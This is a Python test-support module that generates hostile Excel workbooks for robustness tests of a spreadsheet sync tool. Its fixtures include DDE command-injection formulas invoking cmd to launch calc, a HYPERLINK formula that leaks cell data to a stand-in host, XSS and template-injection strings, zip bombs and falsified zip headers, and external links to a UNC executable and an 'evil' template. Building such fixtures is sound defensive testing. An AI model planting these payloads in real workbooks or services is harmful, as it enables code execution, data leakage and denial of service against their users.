"""Hostile workbooks for tests, built in a moment: sound desks with one hazard put in; and hostile texts."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping
from typing import Final

from hypothesis import strategies as st
from lxml import etree

from sync.edges.xlsx.a1 import letters
from tests.support.packages import members, rezipped, swap

MAIN: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TEXTS: Final = "xl/sharedStrings.xml"

_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TEXTS_TYPE: Final = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"

NASTY: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/"&A1,"click")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1+1",
    "<script>alert(1)</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "&lt;b&gt; &amp; &#60;",
    "{{ 7*7 }} {% x %} {value} %s",
    "[bold red]hot[/bold red] :smile:",
    "$\\frac{1}{0}$ _^",
    "]]> --> '\" `",
    "A\N{RIGHT-TO-LEFT OVERRIDE}xslx.exe",
    "\N{RIGHT-TO-LEFT ISOLATE}עברית\N{POP DIRECTIONAL ISOLATE} العربية",
    "zero\N{ZERO WIDTH SPACE}width\N{ZERO WIDTH JOINER}",
    "👩‍👩‍👧‍👦 e\u0301\u0323\u0308 Z͑ͫ̓ͪ̂ͫ̽",
    "_x000D_ _x0000_ _x005F_",
    "../../etc/passwd",
    "CON",
    'a/b\\c:d*e?f"g<h>i|j',
    "Bcc: all@example.com",
    '&P &[Tab] &"Arial"',
    "x" * 300,
)
"""Texts that are something else to one program or another."""

TYPED: Final = (
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31mred",
    "two\r\nlines\rBcc: all@example.com",
    "bell\x07 null\x00 delete\x7f",
    "line\N{LINE SEPARATOR}separator\x85next",
)
"""What can be typed besides, and is never kept as a value: what was typed is told to its own person."""


def texts() -> st.SearchStrategy[str]:
    """Return texts that a value may be: anything that is nasty, and anything at all that XML can carry."""
    return _joined(NASTY, categories_out=("Cs", "Cc"))


def typed() -> st.SearchStrategy[str]:
    """Return texts that can stand in a cell: control characters too."""
    return _joined((*NASTY, *TYPED), categories_out=("Cs",))


def _joined(known: tuple[str, ...], categories_out: tuple[str, ...]) -> st.SearchStrategy[str]:
    free = st.text(
        st.characters(exclude_categories=categories_out, exclude_characters="\ufffe\uffff"), max_size=12
    )
    return st.lists(st.one_of(st.sampled_from(known), free), min_size=1, max_size=3).map("".join)


def with_cells(raw: bytes, part: str, cells: Mapping[tuple[int, int], bytes]) -> bytes:
    """Return the workbook with cells as given: (row, column) → `t="s"><v>0</v>`, what stands behind their reference."""

    def put(sheet: bytes) -> bytes:
        root = etree.fromstring(sheet)
        rows = {int(each.get("r") or 0): each for each in root.iter(f"{{{MAIN}}}row")}
        for (at, column), inner in cells.items():
            row = rows[at]
            old = next((each for each in row if each.get("r") == f"{letters(column)}{at}"), None)
            style = b"" if old is None or old.get("s") is None else b' s="%b"' % str(old.get("s")).encode()
            marker = f"MARK{at}x{column}"
            new = etree.Element(f"{{{MAIN}}}c", r=f"{letters(column)}{at}", mark=marker)
            if old is None:
                before = [each for each in row if _column(each) < column]
                row.insert(len(before), new)
            else:
                row.replace(old, new)
            _marks[marker] = b'<c r="%b%d"%b %b</c>' % (letters(column).encode(), at, style, inner)
        out = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
        for marker, xml in _marks.items():
            start = out.index(b'mark="%b"' % marker.encode())
            begin = out.rindex(b"<", 0, start)
            out = out[:begin] + xml + out[out.index(b">", start) + 1 :]
        return out

    _marks: dict[str, bytes] = {}
    return rezipped(raw, {part: put})


def _column(cell: etree._Element) -> int:
    name = "".join(each for each in str(cell.get("r")) if each.isalpha())
    number = 0
    for each in name:
        number = number * 26 + ord(each) - 64
    return number


def inline(said: str) -> bytes:
    """Return a cell's inside that says *said* as Excel writes it: what XML cannot carry is escaped."""
    escaped = "".join(
        f"_x{ord(each):04X}_" if ord(each) < 32 and each not in "\t\n" else each
        for each in said.replace("&", "&amp;").replace("<", "&lt;")
    )
    return b't="inlineStr"><is><t xml:space="preserve">%b</t></is>' % escaped.encode()


def with_texts(
    raw: bytes, table: bytes, own: bytes = b""
) -> dict[str, bytes | Callable[[bytes], bytes] | None]:
    """Return the changes that give a workbook a table of shared texts; *own*: more attributes of its root."""
    whole = b'<sst xmlns="%b"%b>%b</sst>' % (MAIN.encode(), own, table)
    kept = members(raw)
    types = kept["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/%b" ContentType="%b"/></Types>' % (TEXTS.encode(), _TEXTS_TYPE),
    )
    relations = kept["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdTexts" Type="%b/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        % _OFFICE.encode(),
    )
    return {TEXTS: whole, "[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": relations}


def lying(raw: bytes, name: str, size: int) -> bytes:
    """Return the workbook with a member whose directory entry and local header claim another *size*."""
    spoiled = bytearray(raw)
    at = _entry(raw, name.encode())
    (local,) = struct.unpack_from("<L", raw, at + 42)
    spoiled[at + 24 : at + 28] = spoiled[local + 22 : local + 26] = struct.pack("<L", size)
    return bytes(spoiled)


def _entry(raw: bytes, name: bytes) -> int:
    at = raw.index(b"PK\1\2")
    while raw[at + 46 : at + 46 + len(name)] != name:
        at = raw.index(b"PK\1\2", at + 1)
    return at


def overlapping(many: int, size: int) -> bytes:
    """Return a zip whose members all share the compressed bytes of one (D. Fifield, 2019)."""
    return _repeated(many, size, shared=True)


def bomb(many: int, size: int) -> bytes:
    """Return a zip of *many* members, each of *size* bytes of nothing."""
    return _repeated(many, size, shared=False)


def _repeated(many: int, size: int, *, shared: bool) -> bytes:
    """Return a zip of *many* members of which only one had to be packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("xl/media/000000.png", bytes(size))
    raw = out.getvalue()
    start, end = raw.index(b"PK\1\2"), raw.index(b"PK\5\6")
    bodies, entries = [raw[:start]], []
    for number in range(many):
        name = b"xl/media/%06d.png" % number
        offset = struct.pack("<L", 0 if shared else number * start)
        entries.append(raw[start : start + 42] + offset + name + raw[start + 46 + len(name) : end])
        if number and not shared:
            bodies.append(raw[:30] + name + raw[30 + len(name) : start])
    packed, directory = b"".join(bodies), b"".join(entries)
    closing = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, many, many, len(directory), len(packed), 0)
    return packed + directory + closing


def sheets(raw: bytes, many: int, rows: bytes) -> bytes:
    """Return the workbook with *many* more sheets of these rows."""
    kept = members(raw)
    content = b'<worksheet xmlns="%b"><sheetData>%b</sheetData></worksheet>' % (MAIN.encode(), rows)
    listed = b"".join(
        b'<sheet xmlns:r="%b" name="s%d" sheetId="%d" r:id="rIdZ%d"/>' % (_OFFICE.encode(), at, at + 50, at)
        for at in range(many)
    )
    related = b"".join(
        b'<Relationship Id="rIdZ%d" Type="%b/worksheet" Target="/xl/worksheets/z%d.xml"/>'
        % (at, _OFFICE.encode(), at)
        for at in range(many)
    )
    return rezipped(
        raw,
        {
            "xl/workbook.xml": kept["xl/workbook.xml"].replace(b"</sheets>", listed + b"</sheets>"),
            "xl/_rels/workbook.xml.rels": kept["xl/_rels/workbook.xml.rels"].replace(
                b"</Relationships>", related + b"</Relationships>"
            ),
            **{f"xl/worksheets/z{at}.xml": content for at in range(many)},
        },
    )


def many_rows(first: int, last: int, row: bytes) -> Iterator[bytes]:
    """Yield rows' XML: *row* with their number for each `%d`."""
    holes = row.count(b"%d")
    return (row % ((at,) * holes) for at in range(first, last))


def _relation(identity: str, kind: str, target: str, *, outside: bool = False) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="{identity}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'.encode()


def _relations(*each: tuple[str, str, str]) -> bytes:
    """Return the relations of a part, all of which lead out of the package."""
    space = b"http://schemas.openxmlformats.org/package/2006/relationships"
    return b'<Relationships xmlns="%b">%b</Relationships>' % (
        space,
        b"".join(_relation(*one, outside=True) for one in each),
    )


_TYPES: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_OUTSIDE: Final = f'xmlns="{MAIN}" xmlns:r="{_OFFICE}"'
LINKS: Final[Mapping[str, bytes]] = {
    "xl/externalLinks/externalLink1.xml": (
        f'<externalLink {_OUTSIDE}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        "</externalBook></externalLink>"
    ).encode(),
    "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(
        ("rId1", "externalLinkPath", "http://127.0.0.1:9/prices.xlsx"),
    ),
    "xl/externalLinks/externalLink2.xml": (
        f'<externalLink {_OUTSIDE}><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems>'
        '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    ).encode(),
    "xl/externalLinks/externalLink3.xml": (
        f'<externalLink {_OUTSIDE}><oleLink r:id="rId1" progId="Package"/></externalLink>'
    ).encode(),
    "xl/externalLinks/_rels/externalLink3.xml.rels": _relations(
        ("rId1", "oleObject", "file:///\\\\127.0.0.1\\share\\x.exe")
    ),
    "xl/connections.xml": (
        f'<connections {_OUTSIDE}><connection id="1" name="web" type="4" refreshedVersion="6" refreshOnLoad="1">'
        '<webPr url="http://127.0.0.1:9/rates"/></connection></connections>'
    ).encode(),
}
"""What leads out of a workbook: to another workbook, to a command, to a program, to a page."""


def linking(raw: bytes, part: str, at: tuple[int, int]) -> bytes:
    """Return the workbook with all LINKS, a template on the net, and a cell whose formula follows one of them."""
    inside = (
        ("rIdX1", "externalLink", "externalLinks/externalLink1.xml"),
        ("rIdX2", "externalLink", "externalLinks/externalLink2.xml"),
        ("rIdX3", "externalLink", "externalLinks/externalLink3.xml"),
        ("rIdX4", "connections", "connections.xml"),
    )
    template = ("rIdX5", "attachedTemplate", "http://127.0.0.1:9/evil.xltm")
    added = b"".join(_relation(*each) for each in inside) + _relation(*template, outside=True)
    kinds = b"".join(
        f'<Override PartName="/{name}" ContentType="{_TYPES}.{name.split("/")[-1].rstrip("123.xml")}+xml"/>'.encode()
        for name in LINKS
        if not name.endswith(".rels")
    )
    references = b"".join(
        b'<externalReference xmlns:r="%b" r:id="rIdX%d"/>' % (_OFFICE.encode(), each) for each in (1, 2, 3)
    )

    def referring(book: bytes) -> bytes:
        end = book.index(b"</sheets>") + len(b"</sheets>")
        return book[:end] + b"<externalReferences>" + references + b"</externalReferences>" + book[end:]

    linked = with_cells(raw, part, {at: b"><f>[2]!A0+[1]Sheet1!$A$1</f><v>7.5</v>"})
    return rezipped(
        linked,
        {
            **LINKS,
            "xl/workbook.xml": referring,
            "xl/_rels/workbook.xml.rels": swap(b"</Relationships>", added + b"</Relationships>"),
            "[Content_Types].xml": swap(b"</Types>", kinds + b"</Types>"),
        },
    )
